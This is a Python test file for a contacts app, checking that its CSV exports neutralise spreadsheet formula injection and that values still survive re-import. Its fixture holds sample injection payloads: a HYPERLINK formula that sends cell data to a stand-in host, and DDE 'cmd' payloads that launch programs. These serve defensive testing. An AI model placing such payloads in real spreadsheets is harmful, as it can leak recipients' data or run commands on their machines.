"""CSV formula injection (issue 11, item 8): a cell that starts with =, +, -, @, tab or CR is
written with a leading apostrophe (OWASP), so Excel and Sheets show it as text; reading our own
CSV back takes the apostrophe off again, so the value survives the round trip. Phone numbers and
plain numbers (no letters, nothing a spreadsheet could call) are left as they are."""

from __future__ import annotations

import codecs
import csv
import io
import json

import pytest

from desktop_app.cli import main
from desktop_app.interchange.formats import read_bytes, write_bytes
from desktop_app.userdata.models import Contact, DatedNote, Email, Phone

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile() -> Contact:
    return Contact(
        full_name="=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", given_name="@SUM(1+1)",
        family_name="-2+3+cmd|' /C calc'!A0", organisation="+cmd|' /C notepad'!A1",
        role="\t=1+1", met_where="\r=2", website="'=already quoted",
        emails=[Email("=evil@example.mx")], phones=[Phone("+52 81 1234 5678", "mobile")],
        notes=[DatedNote("=1+1 first note")], tags=["=tag"], uid="uid-hostile")


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize("fmt", ["csv-google", "csv-outlook"])
def test_no_cell_of_our_csv_starts_a_formula(fmt):
    rows = _cells(write_bytes(fmt, [hostile()]))
    starts = [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    assert starts == ["+52 81 1234 5678"]  # a phone number calls nothing: left as it is
    assert any(cell.startswith(("'=HYPERLINK", "'@SUM")) for row in rows
               for cell in row)


@pytest.mark.parametrize("fmt", ["csv-google", "csv-outlook"])
def test_reading_our_csv_back_keeps_every_value(fmt):
    original = hostile()
    (back,) = [p.contact for p in read_bytes(write_bytes(fmt, [original]), "csv")[0].contacts]
    assert back.given_name == original.given_name
    assert back.family_name == original.family_name
    assert back.organisation == original.organisation
    assert back.role == original.role.strip()  # the readers strip blanks round values
    assert back.website == original.website
    assert back.notes[0].text == original.notes[0].text
    assert [p.number for p in back.phones] == ["+52 81 1234 5678"]
    if fmt == "csv-google":
        assert back.full_name == original.full_name
        assert back.met_where == original.met_where.strip()


def test_the_list_command_csv_is_neutralised_too(capsys, tmp_path):
    people = tmp_path / "hostile.json"
    people.write_text(json.dumps({"contacts": [hostile().to_dict()]}), encoding="utf-8")
    assert main(["contacts", "import", str(people)]) == 0
    capsys.readouterr()
    assert main(["contacts", "list", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    assert rows
    starts = [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    assert starts == ["+52 81 1234 5678"]


def test_an_exported_file_carries_a_bom(tmp_path):
    assert write_bytes("csv-google", [hostile()]).startswith(codecs.BOM_UTF8)
